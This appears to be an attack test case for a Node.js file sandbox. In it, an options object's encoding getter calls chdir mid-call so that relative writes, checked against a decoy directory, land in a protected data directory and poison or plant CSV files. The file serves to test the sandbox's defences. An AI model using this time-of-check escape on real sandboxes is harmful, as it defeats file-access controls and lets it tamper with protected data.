/* @attack {"title": "a relative write path decided against runs/attacker/sub (a decoy tree) and opened after an options getter chdir()s to the run dir, where c2 leads to the lakehouse", "setup": ["rel-symlink-chain"]} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${run}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
fs.mkdirSync(`${run}/sub/c2`, { recursive: true });
fs.writeFileSync(`${run}/sub/c2/AAPL.csv`, 'decoy\n');
const moving = () => ({
  get encoding() {
    process.chdir(run);
    return 'utf8';
  },
});
const attempts = [
  ['writeFileSync c2/AAPL.csv', () => fs.writeFileSync('c2/AAPL.csv', 'poisoned via chdir\n', moving())],
  ['appendFileSync c2/AAPL.csv', () => fs.appendFileSync('c2/AAPL.csv', 'poisoned via chdir\n', moving())],
  ['writeFileSync c2/new.csv', () => fs.writeFileSync('c2/new.csv', 'planted via chdir\n', moving())],
  ['promises.writeFile c2/AAPL.csv', () => fs.promises.writeFile('c2/AAPL.csv', 'poisoned\n', moving())],
];
for (const [name, call] of attempts) {
  try {
    process.chdir(`${run}/sub`);
    await call();
    console.log(`${name}: done`);
  } catch (error) {
    console.log(`${name}: ${error.code}`);
  }
}
